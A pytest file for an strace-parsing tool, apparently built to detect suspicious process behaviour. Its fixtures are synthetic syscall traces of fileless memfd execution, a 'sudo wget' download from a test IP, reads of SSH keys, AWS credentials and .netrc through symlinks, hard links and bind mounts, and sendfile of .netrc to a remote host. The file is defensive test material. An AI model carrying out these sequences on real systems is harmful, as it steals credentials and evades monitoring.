"""Paths, probes, programs: what the kernel was asked for, and what it opened."""

# ruff: noqa: E501
from __future__ import annotations

from pathlib import Path

import pytest
from strace_tools import read, script


def test_c33_a_memfd_program_keeps_its_origin(tmp_path: Path) -> None:
    text = """
70 memfd_create("runc_cloned:runc-dmz", MFD_CLOEXEC|MFD_ALLOW_SEALING) = 6
70 execve("/proc/self/fd/6", ["runc", "init"], 0xc0001 /* 6 vars */) = 0
70 execve("/usr/bin/node", ["node", "/srv/server.js"], 0xc0002 /* 9 vars */) = 0
70 memfd_create("payload", 0) = 19
70 clone(child_stack=NULL, flags=SIGCHLD) = 71
71 execve("/proc/self/fd/19", ["python3"], 0x7ffd /* 0 vars */) = 0
"""
    assert (
        script(tmp_path, text[1:])
        == """
process.start@1 process='70' call='' how='seen'
kernel.notable@1 process='70' call='memfd_create' result=6 detail='"runc_cloned:runc-dmz", MFD_CLOEXEC|MFD_ALLOW_SEALING' path='runc_cloned:runc-dmz'
process.start@2 process='70' call='execve' result=0 executable='/memfd:runc_cloned:runc-dmz' argv=['runc', 'init'] env_count=6 origin='memfd'
process.start@3 process='70' call='execve' result=0 executable='/usr/bin/node' argv=['node', '/srv/server.js'] env_count=9
kernel.notable@4 process='70' call='memfd_create' result=19 detail='"payload", 0' path='payload'
process.start@5 process='71' call='clone' result=71 how='clone' parent='70' flags=['SIGCHLD']
process.start@6 process='71' call='execve' result=0 parent='70' executable='/memfd:payload' argv=['python3'] env_count=0 origin='memfd'
loss no-exit x1
note no-clock x1
6 lines 0 unparsed 0 orphans 0 exits incomplete clock=none
"""
    )


def test_c34_a_descriptor_program_is_its_file(tmp_path: Path) -> None:
    text = """
80 execveat(9</usr/lib/systemd/systemd-executor>, "", ["/usr/lib/systemd/systemd-executor", "--deserialize", "88"], 0x55 /* 4 vars */, AT_EMPTY_PATH) = 0
81 execveat(9, "", ["true"], 0x55 /* 4 vars */, AT_EMPTY_PATH) = 0
"""
    assert (
        script(tmp_path, text[1:])
        == """
process.start@1 process='80' call='execveat' result=0 executable='/usr/lib/systemd/systemd-executor' argv=['/usr/lib/systemd/systemd-executor', '--deserialize', '88'] env_count=4 origin='descriptor'
process.start@2 process='81' call='execveat' result=0 argv=['true'] env_count=4 origin='descriptor'
loss no-exit x1
note no-clock x1
2 lines 0 unparsed 0 orphans 0 exits incomplete clock=none
"""
    )


def test_c46_paths_are_resolved_as_far_as_the_trace_allows(tmp_path: Path) -> None:
    text = """
42 openat(AT_FDCWD, "/srv/spool/../.ssh/id_ed25519", O_RDONLY) = 3
42 openat(AT_FDCWD, "/proc/self/root/home/u/.ssh/../.ssh/id_ed25519", O_RDONLY) = 4
42 openat(5, ".ssh/id_ed25519", O_RDONLY) = 6
42 chdir("/home/u/.ssh") = 0
42 openat(AT_FDCWD, "id_ed25519", O_RDONLY) = 7
42 symlink("/home/u", "/tmp/s") = 0
42 openat(AT_FDCWD, "/tmp/s/.ssh/id_ed25519", O_RDONLY) = 8
42 openat(AT_FDCWD, "/proc/self/fd/9", O_RDONLY) = 10</home/u/.ssh/id_ed25519>
"""
    assert (
        script(tmp_path, text[1:])
        == """
process.start@1 process='42' call='' how='seen'
file.open@1 process='42' call='openat' result=3 path='/srv/.ssh/id_ed25519' certain=False access='read' flags='O_RDONLY' fd=3 written='/srv/spool/../.ssh/id_ed25519'
file.open@2 process='42' call='openat' result=4 path='/home/u/.ssh/id_ed25519' certain=False access='read' flags='O_RDONLY' fd=4 written='/proc/self/root/home/u/.ssh/../.ssh/id_ed25519'
file.open@3 process='42' call='openat' result=6 path='.ssh/id_ed25519' certain=False access='read' flags='O_RDONLY' fd=6 written='.ssh/id_ed25519'
file.open@5 process='42' call='openat' result=7 path='/home/u/.ssh/id_ed25519' access='read' flags='O_RDONLY' fd=7 written='id_ed25519'
file.change@6 process='42' call='symlink' result=0 operation='symlink' path='/tmp/s' target='/home/u'
file.open@7 process='42' call='openat' result=8 path='/home/u/.ssh/id_ed25519' access='read' flags='O_RDONLY' fd=8 written='/tmp/s/.ssh/id_ed25519'
file.open@8 process='42' call='openat' result=10 path='/home/u/.ssh/id_ed25519' access='read' flags='O_RDONLY' fd=10 written='/proc/self/fd/9'
loss no-exit x1
note no-clock x1
8 lines 0 unparsed 0 orphans 0 exits incomplete clock=none
"""
    )


def test_c47_looking_is_not_opening(tmp_path: Path) -> None:
    text = """
43 access("/home/u/.ssh/id_ed25519", R_OK) = 0
43 newfstatat(AT_FDCWD, "/home/u/.aws/credentials", {st_mode=S_IFREG|0600, st_size=116, ...}, 0) = 0
43 readlink("/home/u/.ssh/id_ed25519", 0x7ffd16391300, 10) = -1 EINVAL (Invalid argument)
43 openat(AT_FDCWD, "/home/u/.kube/config", O_RDONLY) = -1 ENOENT (No such file or directory)
43 openat(AT_FDCWD, "/home/u/.ssh/id_ed25519", O_RDONLY|O_PATH) = 3
"""
    assert (
        script(tmp_path, text[1:])
        == """
process.start@1 process='43' call='' how='seen'
file.probe@1 process='43' call='access' result=0 operation='access' path='/home/u/.ssh/id_ed25519' written='/home/u/.ssh/id_ed25519'
file.probe@2 process='43' call='newfstatat' result=0 path='/home/u/.aws/credentials' written='/home/u/.aws/credentials'
file.probe@3 process='43' call='readlink' error='EINVAL' operation='readlink' path='/home/u/.ssh/id_ed25519' written='/home/u/.ssh/id_ed25519'
file.open@4 process='43' call='openat' error='ENOENT' path='/home/u/.kube/config' access='read' flags='O_RDONLY' written='/home/u/.kube/config'
file.open@5 process='43' call='openat' result=3 path='/home/u/.ssh/id_ed25519' access='path' flags='O_RDONLY|O_PATH' fd=3 written='/home/u/.ssh/id_ed25519'
loss no-exit x1
note no-clock x1
5 lines 0 unparsed 0 orphans 0 exits incomplete clock=none
"""
    )


def test_c48_a_failed_exec_is_an_intent(tmp_path: Path) -> None:
    text = """
44 execve("/usr/bin/sudo", ["sudo", "wget", "http://203.0.113.25/a"], 0x7ff /* 9 vars */) = -1 ENOENT (No such file or directory)
"""
    assert (
        script(tmp_path, text[1:])
        == """
process.exec_failed@1 process='44' call='execve' error='ENOENT' executable='/usr/bin/sudo' argv=['sudo', 'wget', 'http://203.0.113.25/a']
loss no-exit x1
note no-clock x1
1 lines 0 unparsed 0 orphans 0 exits incomplete clock=none
"""
    )


def test_b22_a_hard_link_keeps_the_name_of_its_file(tmp_path: Path) -> None:
    text = """
9 link("/home/u/.ssh/id_ed25519", "/tmp/w/cache.dat") = 0
9 openat(AT_FDCWD, "/tmp/w/cache.dat", O_RDONLY) = 3</tmp/w/cache.dat>
9 read(3</tmp/w/cache.dat>, "k", 9) = 1
9 rename("/home/u/.aws", "/tmp/a") = 0
9 openat(AT_FDCWD, "/tmp/a/credentials", O_RDONLY) = 4
"""
    assert (
        script(tmp_path, text[1:])
        == """
process.start@1 process='9' call='' how='seen'
file.change@1 process='9' call='link' result=0 operation='link' path='/tmp/w/cache.dat' target='/home/u/.ssh/id_ed25519'
file.open@2 process='9' call='openat' result=3 path='/tmp/w/cache.dat' access='read' flags='O_RDONLY' fd=3 written='/tmp/w/cache.dat' aliases=['/home/u/.ssh/id_ed25519']
file.read@3 process='9' call='read' result=1 path='/tmp/w/cache.dat' fd=3 size=1 data=b'k' aliases=['/home/u/.ssh/id_ed25519']
file.change@4 process='9' call='rename' result=0 operation='rename' path='/home/u/.aws' target='/tmp/a'
file.open@5 process='9' call='openat' result=4 path='/tmp/a/credentials' access='read' flags='O_RDONLY' fd=4 written='/tmp/a/credentials' aliases=['/home/u/.aws/credentials']
loss no-exit x1
note no-clock x1
5 lines 0 unparsed 0 orphans 0 exits incomplete clock=none
"""
    )


def test_b23_a_bind_mount_is_another_name(tmp_path: Path) -> None:
    text = """
9 mount("/home/u/.ssh", "/tmp/w/bm", NULL, MS_BIND, NULL) = 0
9 openat(AT_FDCWD, "/tmp/w/bm/id_ed25519", O_RDONLY) = 3
9 pivot_root(".", ".") = 0
"""
    assert (
        script(tmp_path, text[1:])
        == """
process.start@1 process='9' call='' how='seen'
kernel.notable@1 process='9' call='mount' result=0 detail='"/home/u/.ssh", "/tmp/w/bm", NULL, MS_BIND, NULL' path='/tmp/w/bm'
file.open@2 process='9' call='openat' result=3 path='/tmp/w/bm/id_ed25519' access='read' flags='O_RDONLY' fd=3 written='/tmp/w/bm/id_ed25519' aliases=['/home/u/.ssh/id_ed25519']
kernel.notable@3 process='9' call='pivot_root' result=0 detail='".", "."' path='.'
loss namespace@3 x1 file.open file.read file.change file.probe process=9
loss no-exit x1
note no-clock x1
3 lines 0 unparsed 0 orphans 0 exits incomplete clock=none
"""
    )


def test_b23_what_is_bound_may_be_named_from_the_working_folder(tmp_path: Path) -> None:
    text = """
9 chdir("/home/u/project") = 0
9 mount("../.ssh/id_ed25519", "/tmp/notes.txt", 0x4a20b0, MS_BIND, NULL) = 0
9 openat(AT_FDCWD, "/tmp/notes.txt", O_RDONLY) = 3
"""
    assert (
        script(tmp_path, text[1:], frozenset({"file.open"}))
        == """
file.open@3 process='9' call='openat' result=3 path='/tmp/notes.txt' access='read' flags='O_RDONLY' fd=3 written='/tmp/notes.txt' aliases=['/home/u/.ssh/id_ed25519']
loss no-exit x1
note no-clock x1
3 lines 0 unparsed 0 orphans 0 exits incomplete clock=none
"""
    )


@pytest.mark.parametrize(
    "call",
    [
        'mount("overlay", "/tmp/m", "overlay", MS_RDONLY, "lowerdir=/home/u/.ssh:/tmp/s") = 0',
        'mount("/dev/loop0", "/tmp/m", "ext4", 0, NULL) = 0',
        'mount("/mnt", "/tmp/m", NULL, MS_MOVE, NULL) = 0',
        'mount("x/../.ssh", "/tmp/m", NULL, MS_BIND, NULL) = 0',
        'open_tree(AT_FDCWD, "/home/u/.ssh", OPEN_TREE_CLONE) = 3',
        'open_tree(AT_FDCWD, "/home/u/.ssh", OPEN_TREE_CLONE|OPEN_TREE_CLOEXEC|AT_RECURSIVE) = 3',
        'open_tree_attr(AT_FDCWD, "/home/u/.ssh", OPEN_TREE_CLONE, NULL, 0) = 3',
        "fsmount(4, FSMOUNT_CLOEXEC, 0) = 5",
        'move_mount(3, "", AT_FDCWD, "/tmp/m", MOVE_MOUNT_F_EMPTY_PATH) = 0',
    ],
)
def test_b23_after_other_mounts_no_absence_is_claimed_of_paths(tmp_path: Path, call: str) -> None:
    _, observation = read(tmp_path, f"9 {call}\n", frozenset({"file.open"}))
    told = [loss for loss in observation.losses if loss.what == "namespace"]
    assert [(loss.count, sorted(loss.touches), str(loss.where)) for loss in told] == [
        (1, ["file.change", "file.open", "file.probe", "file.read"], "trace.log:1")
    ]


@pytest.mark.parametrize(
    "call",
    [
        'mount("tmpfs", "/tmp/m", "tmpfs", 0, NULL) = 0',
        'mount("proc", "/proc", "proc", MS_NOSUID, NULL) = 0',
        'mount("none", "/", NULL, MS_REC|MS_PRIVATE, NULL) = 0',
        'mount("", "/tmp/m", NULL, MS_RDONLY|MS_REMOUNT|MS_BIND, NULL) = 0',
        'mount("/home/u/.ssh", "/tmp/m", NULL, MS_BIND|MS_REC, NULL) = 0',
        'mount("overlay", "/tmp/m", "overlay", 0, "lowerdir=/a:/b") = -1 EPERM (Operation not permitted)',
        'open_tree(AT_FDCWD, "/home/u/.ssh", OPEN_TREE_CLOEXEC) = 3',
        "fsmount(4, 0, 0) = -1 EPERM (Operation not permitted)",
    ],
)
def test_b23_mounts_that_give_no_file_another_name_lose_nothing(tmp_path: Path, call: str) -> None:
    _, observation = read(tmp_path, f"9 {call}\n", frozenset({"file.open"}))
    assert [loss.what for loss in observation.losses] == ["no-exit", "no-clock"]


def test_b24_reopening_a_path_descriptor_names_the_file(tmp_path: Path) -> None:
    text = """
9 openat(AT_FDCWD, "/home/u/.netrc", O_RDONLY|O_PATH) = 5
9 openat(AT_FDCWD, "/proc/self/fd/5", O_RDONLY) = 6
9 dup2(6, 7) = 7
9 close(6) = 0
9 clone(child_stack=NULL, flags=SIGCHLD) = 10
10 read(7, "s", 4) = 1
10 read(6, "?", 4) = 1
"""
    assert (
        script(tmp_path, text[1:])
        == """
process.start@1 process='9' call='' how='seen'
file.open@1 process='9' call='openat' result=5 path='/home/u/.netrc' access='path' flags='O_RDONLY|O_PATH' fd=5 written='/home/u/.netrc'
file.open@2 process='9' call='openat' result=6 path='/home/u/.netrc' access='read' flags='O_RDONLY' fd=6 written='/proc/self/fd/5'
process.start@5 process='10' call='clone' result=10 how='clone' parent='9' flags=['SIGCHLD']
file.read@6 process='10' call='read' result=1 path='/home/u/.netrc' fd=7 size=1 data=b's' inherited=True
file.read@7 process='10' call='read' result=1 fd=6 size=1 data=b'?' certain=False inherited=True
loss no-exit x1
note no-clock x1
7 lines 0 unparsed 0 orphans 0 exits incomplete clock=none
"""
    )


def test_b26_bytes_that_pass_no_buffer_are_reads_and_sends(tmp_path: Path) -> None:
    text = """
9 openat(AT_FDCWD, "/home/u/.netrc", O_RDONLY) = 5
9 socket(AF_INET, SOCK_STREAM, IPPROTO_IP) = 6
9 connect(6, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("203.0.113.7")}, 16) = 0
9 sendfile(6, 5, [0] => [15], 15)  = 15
9 mmap(NULL, 15, PROT_READ, MAP_PRIVATE, 5, 0) = 0x7f0000000000
9 mmap(NULL, 15, PROT_READ, MAP_PRIVATE|MAP_ANONYMOUS, -1, 0) = 0x7f0000000000
"""
    assert (
        script(tmp_path, text[1:])
        == """
process.start@1 process='9' call='' how='seen'
file.open@1 process='9' call='openat' result=5 path='/home/u/.netrc' access='read' flags='O_RDONLY' fd=5 written='/home/u/.netrc'
socket.open@2 process='9' call='socket' result=6 socket='s1' fd=6 family='inet' type='stream' protocol='IPPROTO_IP'
socket.connect@3 process='9' call='connect' result=0 socket='s1' fd=6 transport='tcp' family='inet' address='203.0.113.7' port=443 outcome='established'
file.read@4 process='9' call='sendfile' result=15 path='/home/u/.netrc' fd=5 size=15 cut=True to_fd=6 to_socket='s1'
socket.send@4 process='9' call='sendfile' result=15 socket='s1' fd=6 transport='tcp' address='203.0.113.7' port=443 remote_source='connect' size=15 tried=15 cut=True
file.read@5 process='9' call='mmap' result=139637976727552 path='/home/u/.netrc' fd=5 size=15 cut=True mapped=True
loss string-cut@4 x1 data:file.read
loss string-cut@4 x1 data:socket.send
loss no-exit x1
note no-clock x1
6 lines 0 unparsed 0 orphans 0 exits incomplete clock=none
"""
    )


def test_b28_descriptors_from_elsewhere_are_known_or_said_to_be_unknown(tmp_path: Path) -> None:
    text = """
9 socketpair(AF_UNIX, SOCK_STREAM, 0, [4, 5]) = 0
9 openat(AT_FDCWD, "/home/u/.netrc", O_RDONLY) = 6
9 sendmsg(4, {msg_name=NULL, msg_namelen=0, msg_iov=[{iov_base="x", iov_len=1}], msg_iovlen=1, msg_control=[{cmsg_len=20, cmsg_level=SOL_SOCKET, cmsg_type=SCM_RIGHTS, cmsg_data=[6]}], msg_controllen=24, msg_flags=0}, 0) = 1
9 recvmsg(5, {msg_name=NULL, msg_namelen=0, msg_iov=[{iov_base="x", iov_len=1}], msg_iovlen=1, msg_control=[{cmsg_len=20, cmsg_level=SOL_SOCKET, cmsg_type=SCM_RIGHTS, cmsg_data=[7]}], msg_controllen=24, msg_flags=0}, 0) = 1
9 read(7, "s", 4) = 1
9 pidfd_getfd(21, 7, 0) = 22
9 read(22, "s", 4) = 1
"""
    assert (
        script(tmp_path, text[1:])
        == """
process.start@1 process='9' call='' how='seen'
socket.open@1 process='9' call='socketpair' result=0 socket='s1' fd=4 family='unix' type='stream' protocol='0'
socket.open@1 process='9' call='socketpair' result=0 socket='s2' fd=5 family='unix' type='stream' protocol='0'
file.open@2 process='9' call='openat' result=6 path='/home/u/.netrc' access='read' flags='O_RDONLY' fd=6 written='/home/u/.netrc'
socket.send@3 process='9' call='sendmsg' result=1 socket='s1' fd=4 transport='unix' size=1 tried=1 data=b'x'
fd.pass@3 process='9' call='sendmsg' result=1 socket='s1' fds=[6] paths=['/home/u/.netrc']
socket.receive@4 process='9' call='recvmsg' result=1 socket='s2' fd=5 transport='unix' size=1 data=b'x'
fd.pass@4 process='9' call='recvmsg' result=1 direction='received' socket='s2' fds=[7] paths=['/home/u/.netrc']
file.read@5 process='9' call='read' result=1 path='/home/u/.netrc' fd=7 size=1 data=b's'
fd.pass@6 process='9' call='pidfd_getfd' result=22 direction='received' fds=[22] paths=[None]
kernel.notable@6 process='9' call='pidfd_getfd' result=22 detail='21, 7, 0'
file.read@7 process='9' call='read' result=1 fd=22 size=1 data=b's' certain=False inherited=True
loss no-exit x1
note no-clock x1
7 lines 0 unparsed 0 orphans 0 exits incomplete clock=none
"""
    )
